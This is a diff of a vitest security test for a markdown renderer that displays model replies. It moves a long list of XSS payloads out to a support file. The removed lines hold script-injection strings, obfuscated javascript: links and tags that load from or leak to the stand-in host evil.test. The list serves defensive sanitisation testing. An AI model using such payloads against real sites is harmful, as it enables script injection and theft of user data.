@@ -1,99 +1,10 @@
 /** What a hostile reply may try: nothing runs, nothing loads, nothing leads where it should not, nothing hangs. */
 import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
 import { createMarkdownRenderer } from '../../src/ui/markdown/stream-renderer';
+import { hostileTexts } from '../support/hostile-texts';
 
 // Much work, on machines that may be busy: this is for a real hang.
 vi.setConfig({ testTimeout: 60_000 });
-
-/** Addresses that answer nobody; `window.pwned` is what a script would set. */
-const payloads = [
-  '<script>window.pwned = 1</script>',
-  '<script src="https://evil.test/x.js"></script>',
-  '<img src=x onerror="window.pwned=1">',
-  '<img src="https://evil.test/pixel.png">',
-  '<IMG """><SCRIPT>window.pwned=1</SCRIPT>">',
-  '<svg onload="window.pwned=1">',
-  '<svg><script href="https://evil.test/x.js"/></svg>',
-  '<svg><image href="https://evil.test/x.png"></svg>',
-  '<svg><use href="https://evil.test/x.svg#a"></use></svg>',
-  '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
-  '<iframe src="https://evil.test"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<object data="https://evil.test/x.swf"></object>',
-  '<embed src="https://evil.test/x">',
-  '<video src="https://evil.test/x" autoplay poster="https://evil.test/p"></video>',
-  '<audio src="https://evil.test/x" onerror="window.pwned=1"></audio>',
-  '<link rel="stylesheet" href="https://evil.test/x.css">',
-  '<link rel="prefetch" href="https://evil.test/x">',
-  '<link rel="dns-prefetch" href="//evil.test">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
-  '<base href="https://evil.test/">',
-  '<style>@import "https://evil.test/x.css";</style>',
-  '<style>body{background:url(https://evil.test/x)}</style>',
-  '<p style="background:url(https://evil.test/x)">styled</p>',
-  '<form action="https://evil.test"><button autofocus onfocus="window.pwned=1">go</button></form>',
-  '<input autofocus onfocus="window.pwned=1">',
-  '<details open ontoggle="window.pwned=1">x</details>',
-  '<body onload="window.pwned=1">',
-  '<marquee onstart="window.pwned=1">x</marquee>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned=1">',
-  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
-  '<template><script>window.pwned=1</script></template>',
-  '<textarea><img src=x onerror=window.pwned=1></textarea>',
-  '<a href="javascript:window.pwned=1">x</a>',
-  '<a href="https://evil.test" ping="https://evil.test/ping">x</a>',
-  '<x onclick="window.pwned=1" style="position:fixed;inset:0">click</x>',
-  '<!--<img src="--><img src=x onerror=window.pwned=1//">',
-  '<![CDATA[<script>window.pwned=1</script>]]>',
-  '<?xml-stylesheet href="https://evil.test/x.css"?>',
-  '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.test">]>',
-  '[x](javascript:window.pwned=1)',
-  '[x](JaVaScRiPt:window.pwned=1)',
-  '[x](java\tscript:window.pwned=1)',
-  '[x](<java\nscript:window.pwned=1>)',
-  '[x](javascript&colon;window.pwned=1)',
-  '[x](&#106;avascript:window.pwned=1)',
-  '[x](&#x6A;&#x61;vascript&#58;window.pwned=1)',
-  '[x](\u0001javascript:window.pwned=1)',
-  '[x](%6aavascript:window.pwned=1)',
-  '[x](vbscript:msgbox)',
-  '[x](data:text/html,<script>window.pwned=1</script>)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](blob:https://evil.test/1)',
-  '[x](file:///etc/passwd)',
-  '[x](about:blank)',
-  '[x](filesystem:https://evil.test/x)',
-  '[x](view-source:https://evil.test)',
-  '[x](//evil.test)',
-  '[x](/settings?delete=everything)',
-  '[x](#settings)',
-  '[x](https:\\\\evil.test)',
-  '[x](https://a:b@evil.test)',
-  '[https://bank.test](https://evil.test)',
-  '[x][1]\n\n[1]: javascript:window.pwned=1',
-  '[x][1]\n\n[1]: <javascript:window.pwned=1> "t"',
-  '![x](https://evil.test/?q=secret)',
-  '![x](javascript:window.pwned=1)',
-  '![x](data:image/svg+xml,<svg onload=window.pwned=1>)',
-  '![x" onerror="window.pwned=1](https://evil.test/x.png)',
-  '![x][1]\n\n[1]: https://evil.test/x.png',
-  '[![x](https://evil.test/x.png)](javascript:window.pwned=1)',
-  '[x](https://evil.test "\\" onmouseover=\\"window.pwned=1")',
-  '[x](https://evil.test/"onmouseover="window.pwned=1)',
-  '<javascript:window.pwned=1>',
-  '<data:text/html,x>',
-  'javascript:window.pwned=1 and www.evil.test/"onclick="window.pwned=1',
-  '`<img src=x onerror=window.pwned=1>`',
-  '```html"onload="window.pwned=1\n<script>window.pwned=1</script>\n```',
-  '```<script>\n</code></pre><script>window.pwned=1</script>\n```',
-  '    <script>window.pwned=1</script>',
-  '| <img src=x onerror=window.pwned=1> |\n|---|\n| </table><script>window.pwned=1</script> |',
-  '- [x] <input onfocus=window.pwned=1 autofocus>\n- <script>window.pwned=1</script>',
-  '> <iframe src="https://evil.test">\n\n# <script>window.pwned=1</script>',
-  '&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;',
-  '<script>window.pwned=1</script'.repeat(3),
-  '[a]: https://evil.test\n[__proto__]: https://evil.test\n\n[a] [__proto__] [constructor] [toString]',
-];
 
 /** All that a reply may put on the page. */
 const elements = new Set(
@@ -101,7 +12,9 @@ const elements = new Set(
     ' ',
   ),
 );
-const attributes = new Set('class start type disabled checked data-align href rel target title'.split(' '));
+const attributes = new Set(
+  'class start type disabled checked data-align data-picture href rel target title'.split(' '),
+);
 
 let target: HTMLElement;
 const violations: string[] = [];
@@ -134,7 +47,7 @@ test('the policy of this page is in force', () => {
   }).toThrow('TrustedHTML');
 });
 
-describe.for(payloads.map((payload) => ({ payload })))('$payload', ({ payload }) => {
+describe.for(hostileTexts.map((payload) => ({ payload })))('$payload', ({ payload }) => {
   test.for(['at once', 'piece by piece', 'in a list, a table and a quote'])('is harmless %s', async (way) => {
     const line = payload.replaceAll('\n', ' ');
     const text = way.startsWith('in') ? `- ${line}\n\n| ${line} |\n|---|\n| ${line} |\n\n> ${line}` : payload;
